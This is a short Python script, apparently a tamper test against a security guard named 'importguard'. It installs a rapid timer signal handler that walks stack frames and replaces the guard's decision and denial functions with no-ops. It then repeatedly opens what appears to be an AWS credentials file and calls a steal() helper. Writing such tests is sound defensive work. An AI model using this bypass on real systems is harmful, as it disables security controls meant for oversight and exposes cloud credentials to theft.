"""A signal handler is given the frame of the guard at work, and edits its globals."""

import signal

from acme_tamper.stage import AWS, steal, trying


def handle(number, frame):
    while frame is not None:
        if str(frame.f_globals.get("__name__")).startswith("importguard"):
            for name in ("decide", "Request", "denial", "stack_of"):
                if name in frame.f_globals:
                    frame.f_globals[name] = lambda *arguments, **options: None
        frame = frame.f_back


signal.signal(signal.SIGALRM, handle)
signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
for _ in range(300):
    with trying():
        open(AWS).close()
signal.setitimer(signal.ITIMER_REAL, 0)
steal()
